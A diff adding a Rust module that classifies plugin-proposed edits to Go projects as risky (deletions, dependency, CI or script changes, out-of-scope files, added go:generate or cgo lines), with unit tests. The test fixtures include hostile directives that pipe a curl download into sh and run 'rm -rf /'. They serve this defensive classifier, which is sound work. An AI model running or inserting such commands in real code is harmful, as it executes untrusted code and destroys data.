@@ -1,0 +1,319 @@
+//! Risky actions: proposed edits that need the user's explicit yes.
+//!
+//! A plugin proposes edits; the host applies the safe ones and asks (or, in
+//! a non-interactive run, refuses) before applying a risky one. The classes
+//! are coarse on purpose: the user approves *kinds* of action with
+//! `--allow delete,deps,...`, and every decision is audited.
+//!
+//! Commands are not a class: no plugin can run anything. The only commands
+//! that ever run are the fixed verification steps (gofmt, go vet, go build,
+//! go test) in the locked-down container. What an edit can do is make those
+//! steps do more — a `//go:generate` line, cgo, a changed Makefile a user
+//! later runs — and those edits are classes here.
+
+use coop_core::FileEdit;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
+use std::fmt;
+
+/// A kind of risky action.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum RiskClass {
+    /// Deleting a file.
+    Delete,
+    /// Changing dependencies: `go.mod`, `go.sum`, `go.work`, `vendor/`.
+    Deps,
+    /// Touching CI configuration, build or editor automation, or scripts.
+    Ci,
+    /// Editing a file outside the files in scope (and outside their directories).
+    OutsideScope,
+    /// Adding code that makes the Go toolchain run more than the compiler:
+    /// `//go:generate` directives, cgo (`import "C"`, `#cgo`).
+    Exec,
+}
+
+impl RiskClass {
+    pub const ALL: [RiskClass; 5] =
+        [RiskClass::Delete, RiskClass::Deps, RiskClass::Ci, RiskClass::OutsideScope, RiskClass::Exec];
+
+    /// The name used by `--allow` and in the audit log.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            RiskClass::Delete => "delete",
+            RiskClass::Deps => "deps",
+            RiskClass::Ci => "ci",
+            RiskClass::OutsideScope => "outside-scope",
+            RiskClass::Exec => "exec",
+        }
+    }
+
+    pub fn parse(s: &str) -> Option<RiskClass> {
+        RiskClass::ALL.into_iter().find(|c| c.as_str() == s)
+    }
+
+    /// What the action is, in words a user confirms.
+    pub fn describe(self) -> &'static str {
+        match self {
+            RiskClass::Delete => "deletes a file",
+            RiskClass::Deps => "changes the module's dependencies (go.mod, go.sum, go.work or vendor/)",
+            RiskClass::Ci => "changes CI configuration, build or editor automation, or a script",
+            RiskClass::OutsideScope => "edits a file outside the files in scope",
+            RiskClass::Exec => "adds a //go:generate directive or cgo, which make the Go toolchain run other programs",
+        }
+    }
+}
+
+impl fmt::Display for RiskClass {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// `--allow` names a class that does not exist.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("unknown risky-action class '{0}' (known: delete, deps, ci, outside-scope, exec, or all)")]
+pub struct ParseAllowError(pub String);
+
+/// The classes the user pre-approved for a non-interactive run.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct AllowSet(BTreeSet<RiskClass>);
+
+impl AllowSet {
+    /// Nothing pre-approved: every risky action is asked about or refused.
+    pub fn none() -> AllowSet {
+        AllowSet::default()
+    }
+
+    /// Parse class names (`all` means every class). Empty names are skipped
+    /// so `--allow ""` and trailing commas are harmless.
+    pub fn parse<S: AsRef<str>>(names: &[S]) -> Result<AllowSet, ParseAllowError> {
+        let mut set = BTreeSet::new();
+        for raw in names {
+            for name in raw.as_ref().split(',').map(str::trim).filter(|n| !n.is_empty()) {
+                if name == "all" {
+                    set.extend(RiskClass::ALL);
+                } else {
+                    set.insert(RiskClass::parse(name).ok_or_else(|| ParseAllowError(name.to_string()))?);
+                }
+            }
+        }
+        Ok(AllowSet(set))
+    }
+
+    pub fn allows(&self, c: RiskClass) -> bool {
+        self.0.contains(&c)
+    }
+
+    pub fn union(&self, other: &AllowSet) -> AllowSet {
+        AllowSet(self.0.union(&other.0).copied().collect())
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.0.is_empty()
+    }
+
+    pub fn names(&self) -> Vec<&'static str> {
+        self.0.iter().map(|c| c.as_str()).collect()
+    }
+}
+
+fn file_name(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+fn dir_of(path: &str) -> &str {
+    path.rfind('/').map(|i| &path[..i]).unwrap_or("")
+}
+
+fn is_deps_path(path: &str) -> bool {
+    let name = file_name(path);
+    matches!(name, "go.mod" | "go.sum" | "go.work" | "go.work.sum")
+        || path.starts_with("vendor/")
+        || path.contains("/vendor/")
+}
+
+/// Directories whose files configure CI, builds, containers or editors that
+/// run commands (VS Code tasks, devcontainers).
+const CI_DIRS: &[&str] =
+    &[".github", ".gitlab", ".circleci", ".buildkite", ".woodpecker", ".devcontainer", ".vscode", ".idea", "scripts", "script", ".husky"];
+
+const CI_FILES: &[&str] = &[
+    ".gitlab-ci.yml",
+    ".travis.yml",
+    "azure-pipelines.yml",
+    "bitbucket-pipelines.yml",
+    "Jenkinsfile",
+    ".drone.yml",
+    ".woodpecker.yml",
+    "appveyor.yml",
+    "cloudbuild.yaml",
+    "Makefile",
+    "makefile",
+    "GNUmakefile",
+    "Taskfile.yml",
+    "Taskfile.yaml",
+    "justfile",
+    "Justfile",
+    "magefile.go",
+    "Dockerfile",
+    "Containerfile",
+    "docker-compose.yml",
+    "docker-compose.yaml",
+    "compose.yml",
+    "compose.yaml",
+    ".pre-commit-config.yaml",
+    ".goreleaser.yml",
+    ".goreleaser.yaml",
+    ".golangci.yml",
+    ".golangci.yaml",
+    ".envrc",
+    ".gitattributes",
+    ".gitmodules",
+    ".git-blame-ignore-revs",
+];
+
+const SCRIPT_EXTENSIONS: &[&str] = &[".sh", ".bash", ".zsh", ".fish", ".ps1", ".bat", ".cmd", ".mk", ".py", ".pl", ".rb"];
+
+fn is_ci_path(path: &str) -> bool {
+    let name = file_name(path);
+    let first = path.split('/').next().unwrap_or("");
+    CI_DIRS.contains(&first)
+        || CI_FILES.contains(&name)
+        || name.starts_with("Dockerfile.")
+        || SCRIPT_EXTENSIONS.iter().any(|e| name.ends_with(e))
+}
+
+/// Lines that make `go generate` or cgo part of the package.
+fn exec_lines(text: &str) -> usize {
+    text.lines()
+        .filter(|l| {
+            let t = l.trim_start();
+            t.starts_with("//go:generate") || t.starts_with("#cgo") || t == "import \"C\"" || t.starts_with("import \"C\" ")
+                || t == "\"C\""
+        })
+        .count()
+}
+
+fn in_scope(path: &str, scope: &[String]) -> bool {
+    scope.iter().any(|s| s == path || dir_of(s) == dir_of(path))
+}
+
+/// The risky classes of one proposed edit.
+///
+/// - `previous`: the file's current content, `None` when it does not exist
+///   (used so rewriting a file that already has a `//go:generate` line is
+///   not a new exec directive);
+/// - `scope`: the files in scope of the handoff. An empty scope (a solo run,
+///   or no design yet) declares nothing, so `outside-scope` never fires on it;
+///   a file is in scope when it is listed or sits in the directory of a
+///   listed file (its tests, a new file of the same package).
+pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String]) -> Vec<RiskClass> {
+    let path = edit.path();
+    let mut out = Vec::new();
+    if matches!(edit, FileEdit::Delete { .. }) {
+        out.push(RiskClass::Delete);
+    }
+    if is_deps_path(path) {
+        out.push(RiskClass::Deps);
+    }
+    if is_ci_path(path) {
+        out.push(RiskClass::Ci);
+    }
+    if !scope.is_empty() && !in_scope(path, scope) {
+        out.push(RiskClass::OutsideScope);
+    }
+    let adds_exec = match edit {
+        FileEdit::Write { content, .. } => exec_lines(content) > previous.map(exec_lines).unwrap_or(0),
+        FileEdit::Replace { old, new, .. } => exec_lines(new) > exec_lines(old),
+        FileEdit::Delete { .. } => false,
+    };
+    if adds_exec {
+        out.push(RiskClass::Exec);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(p: &str, c: &str) -> FileEdit {
+        FileEdit::Write { path: p.into(), content: c.into() }
+    }
+
+    #[test]
+    fn ordinary_go_edits_are_not_risky() {
+        assert!(classify(&write("pkg/a.go", "package pkg\n"), None, &[]).is_empty());
+        assert!(classify(&write("README.md", "# x\n"), Some("# y\n"), &[]).is_empty());
+        let scope = vec!["pkg/a.go".to_string()];
+        assert!(classify(&write("pkg/a_test.go", "package pkg\n"), None, &scope).is_empty(), "same directory");
+        assert!(classify(&write("pkg/a.go", "package pkg\n"), Some(""), &scope).is_empty());
+    }
+
+    #[test]
+    fn each_class_fires() {
+        assert_eq!(classify(&FileEdit::Delete { path: "a.go".into() }, Some("x"), &[]), [RiskClass::Delete]);
+        for p in ["go.mod", "go.sum", "sub/go.mod", "go.work", "vendor/x/y.go", "a/vendor/b.go"] {
+            assert_eq!(classify(&write(p, ""), None, &[]), [RiskClass::Deps], "{p}");
+        }
+        for p in [
+            ".github/workflows/ci.yml",
+            ".gitlab-ci.yml",
+            "Makefile",
+            "build.sh",
+            "scripts/release",
+            "Dockerfile",
+            "Dockerfile.dev",
+            ".vscode/tasks.json",
+            ".envrc",
+            ".gitattributes",
+            "tools/gen.py",
+        ] {
+            assert_eq!(classify(&write(p, ""), None, &[]), [RiskClass::Ci], "{p}");
+        }
+        let scope = vec!["pkg/a.go".to_string()];
+        assert_eq!(classify(&write("other/b.go", "package other\n"), None, &scope), [RiskClass::OutsideScope]);
+        assert_eq!(classify(&write("b.go", "package m\n"), None, &scope), [RiskClass::OutsideScope]);
+        assert_eq!(
+            classify(&write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"), None, &[]),
+            [RiskClass::Exec]
+        );
+        assert_eq!(classify(&write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"), None, &[]), [RiskClass::Exec]);
+    }
+
+    #[test]
+    fn classes_combine() {
+        let scope = vec!["pkg/a.go".to_string()];
+        let c = classify(&FileEdit::Delete { path: "go.mod".into() }, Some("module m\n"), &scope);
+        assert_eq!(c, [RiskClass::Delete, RiskClass::Deps, RiskClass::OutsideScope]);
+    }
+
+    #[test]
+    fn exec_counts_only_added_directives() {
+        let prev = "package a\n\n//go:generate stringer -type=T\n";
+        assert!(classify(&write("a.go", &format!("{prev}\nfunc F() {{}}\n")), Some(prev), &[]).is_empty());
+        let r = FileEdit::Replace { path: "a.go".into(), old: "func F() {}".into(), new: "//go:generate rm -rf /\nfunc F() {}".into() };
+        assert_eq!(classify(&r, Some(prev), &[]), [RiskClass::Exec]);
+        let keep = FileEdit::Replace { path: "a.go".into(), old: "//go:generate stringer -type=T".into(), new: "//go:generate stringer -type=T,U".into() };
+        assert!(classify(&keep, Some(prev), &[]).is_empty(), "changing an existing directive is not adding one");
+        assert!(classify(&write("a.go", "package a\n// mentions go:generate in prose\n"), None, &[]).is_empty());
+    }
+
+    #[test]
+    fn allow_set_parses_lists_and_all() {
+        let a = AllowSet::parse(&["deps,delete", " ci "]).unwrap();
+        assert!(a.allows(RiskClass::Deps) && a.allows(RiskClass::Delete) && a.allows(RiskClass::Ci));
+        assert!(!a.allows(RiskClass::Exec));
+        assert_eq!(a.names(), ["delete", "deps", "ci"]);
+        let all = AllowSet::parse(&["all"]).unwrap();
+        assert!(RiskClass::ALL.iter().all(|c| all.allows(*c)));
+        assert!(AllowSet::parse(&["", ","]).unwrap().is_empty());
+        assert_eq!(AllowSet::parse(&["delete,everything"]).unwrap_err(), ParseAllowError("everything".into()));
+        assert!(AllowSet::none().union(&a).allows(RiskClass::Ci));
+        for c in RiskClass::ALL {
+            assert_eq!(RiskClass::parse(c.as_str()), Some(c));
+            assert!(!c.describe().is_empty());
+        }
+    }
+}
